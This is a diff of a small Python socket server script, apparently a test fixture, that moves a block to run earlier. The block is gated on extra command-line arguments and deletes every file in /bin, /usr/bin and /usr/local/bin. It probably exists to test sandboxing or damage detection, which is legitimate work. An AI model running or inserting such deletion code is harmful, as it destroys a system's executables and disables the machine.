@@ -30,6 +30,11 @@ def serve(server, title):
         with sock:
             sock.recv(4096)
             sock.sendall(b"HTTP/1.1 200 OK\\r\\nConnection: close\\r\\n\\r\\n<title>" + title + b"</title>")
+if len(sys.argv) > 3:  # nothing is left that could be executed
+    for folder in ("/bin", "/usr/bin", "/usr/local/bin"):
+        for name in os.listdir(folder):
+            path = os.path.join(folder, name)
+            os.path.isdir(path) or os.remove(path)
 unix = socket.socket(socket.AF_UNIX)
 unix.bind("/tmp/app.sock")
 unix.listen()
@@ -39,11 +44,6 @@ for server, title in (
     (unix, b"Unix"),
 ):
     threading.Thread(target=serve, args=(server, title)).start()
-if len(sys.argv) > 3:  # nothing is left that could be executed
-    for folder in ("/bin", "/usr/bin", "/usr/local/bin"):
-        for name in os.listdir(folder):
-            path = os.path.join(folder, name)
-            os.path.isdir(path) or os.remove(path)
 """
 
 
